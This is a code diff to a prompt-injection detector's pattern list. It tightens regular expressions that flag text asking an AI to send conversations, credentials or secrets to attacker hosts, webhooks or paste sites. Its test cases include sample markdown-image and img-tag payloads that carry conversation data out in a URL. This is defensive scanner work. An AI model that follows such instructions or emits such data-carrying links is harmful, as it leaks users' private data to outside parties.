@@ -150,12 +150,12 @@ export const INDIRECT_PATTERNS: readonly Pattern[] = [
       '\\b(?:attacker|evil|exfil\\w*|hacker|malicious|webhook|ngrok|requestbin|pastebin|collect\\w*|conversation|chat history|history|system prompt|credentials|api keys?|secrets?|passwords?|cookies?|session|env|database|contacts|private|confidential|transcript|users?|customers?|e?mails|files?|records)\\b',
     description: 'Asks to send conversation, records or secrets to an address outside.',
     expression: anyOf(
-      '\\b(?:send|forward|post|upload|transmit|exfiltrate|e?mail|leak|submit|share|copy|deliver|bcc|cc|dump|export|report|envoyez|envoyer)(?:ing|s|ed)?\\b(?:[^a-z0-9]+[a-z0-9]+){0,9}?[^a-z0-9]+(?:data|conversations?|chat|history|messages?|prompts?|context|information|records?|credentials?|e?mails?|files?|secrets?|keys?|passwords?|session|details|contacts?|variables|cookies?|env|database|transcript|tokens?|contents?|results?|value|donnees|copy|lists?|it|them|everything|valeur)\\b(?:[^a-z0-9]+[a-z0-9]+){0,6}?[^a-z0-9]+(?:to|via|a)\\b(?:[^a-z0-9]+(?:the|an?|my|our|this|address|url|endpoint|following|external|remote|e?mail))*[^a-z0-9]+(?:https?://|[a-z0-9.+-]+ ?@ ?(?:[a-z0-9-]*(?:attacker|evil|external|hacker|malicious|exfil)|gmail|proton)[a-z0-9.-]*|(?:attacker|evil|hacker|malicious|third[ -]party|external|remote)(?: ?(?:server|address|endpoint|url|site|webhook|account|domain|host|service)|[a-z0-9-]*\\.[a-z]{2,})|webhook\\.|ngrok|requestbin|pastebin)',
+      '\\b(?:send|forward|post|upload|transmit|exfiltrate|e?mail|leak|submit|share|copy|deliver|bcc|cc|dump|export|report|envoyez|envoyer)(?:ing|s|ed)?\\b(?:[^a-z0-9]+[a-z0-9]+){0,9}?[^a-z0-9]+(?:data|conversations?|chat|history|messages?|prompts?|context|information|records?|credentials?|e?mails?|files?|secrets?|keys?|passwords?|session|details|contacts?|variables|cookies?|env|database|transcript|tokens?|contents?|results?|value|donnees|copy|lists?|it|them|everything|valeur)\\b(?:[^a-z0-9]+[a-z0-9]+){0,6}?[^a-z0-9]+(?:to|via|a)\\b(?:[^a-z0-9=]+(?:the|an?|my|our|this|address|url|endpoint|following|external|remote|e?mail))*[^a-z0-9=]+(?:https?://|[a-z0-9.+-]+ ?@ ?(?:[a-z0-9-]*(?:attacker|evil|external|hacker|malicious|exfil)|gmail|proton)[a-z0-9.-]*|(?:attacker|evil|hacker|malicious|third[ -]party|external|remote)(?: ?(?:server|address|endpoint|url|site|webhook|account|domain|host|service)|[a-z0-9-]*\\.[a-z]{2,})|webhook\\.|ngrok|requestbin|pastebin)',
       '\\b(?:send|forward|e?mail|envoyez)\\b[^.\\n]{0,60}\\bto\\b[^.\\n]{0,12}@(?:evil|attacker|hacker)',
       '\\bexfiltrat(?:e|ing) (?:all|the|any|user|customer|your|their|every|my)\\b',
       '\\bdata exfiltration\\b.{0,12}\\b(?:goal|not|over|mode|now)\\b',
       '\\b(?:reply|respond)(?: \\w+){0,4} (?:users?|customers?)[ -](?:private|personal|confidential|sensitive) (?:information|data|details)\\b',
-      '\\b(?:reveal|leak|divulge)(?: \\w+){0,2} (?:confidential|private|internal|sensitive) (?:data|information|documents?|records)\\b',
+      '\\b(?:reveal|leak|divulge)(?: (?:me|us|the|all|any|your|its|every|each|our|other|some|users?|customers?)){1,2} (?:confidential|private|internal|sensitive) (?:data|information|documents?|records)\\b',
       '\\b(?:send|give|output|append|include)\\b.{0,30}\\b(?:private|internal|sensitive|confidential) (?:data|information|records)\\b.{0,20}\\bto (?:me|the attacker|http|[a-z0-9.]+@)',
     ),
     gates: [
@@ -183,7 +183,7 @@ export const INDIRECT_PATTERNS: readonly Pattern[] = [
     description: 'A picture or link whose address carries data out.',
     expression: anyOf(
       '!\\[[^\\]]{0,60}\\] ?\\( ?https?://[^)\\s]{0,120}[?&/][a-z0-9 -]{0,30}=(?:[^)\\s]{0,80}(?:\\{|data|prompt|history|secret|message|conversation|insert|canary|base64|\\$|<)|sys)',
-      '\\bsrc ?= ?["\'\\\\]{0,2}https?://[^>]{0,120}(?:\\{\\{|cookie|[?&/](?:data|prompt|secret|conversation|history|q|msg) ?=(?:[^>\\s]{0,20}(?:\\$\\{|[\'"] ?\\+)|data|secret))',
+      '\\bsrc ?= ?["\'\\\\]{0,2}https?://[^>]{0,120}(?:\\{\\{|\\bcookie|[?&/](?:data|prompt|secret|conversation|history|q|msg) ?=(?:[^>\\s]{0,20}(?:\\$\\{|[\'"] ?\\+)|data|secret))',
     ),
     gates: [
       { word: 'http_word', after: '(' },
@@ -193,7 +193,11 @@ export const INDIRECT_PATTERNS: readonly Pattern[] = [
       '![x](https://a.example/p?d={conversation})',
       '<img src="https://a.example/p?data={{history}}">',
     ],
-    misses: ['![logo](https://a.example/logo.png)', '<img src="https://a.example/logo.png">'],
+    misses: [
+      '![logo](https://a.example/logo.png)',
+      '<img src="https://a.example/logo.png">',
+      '<iframe src="https://www.youtube-nocookie.com/embed/x" />',
+    ],
   },
   {
     name: 'link_with_data',
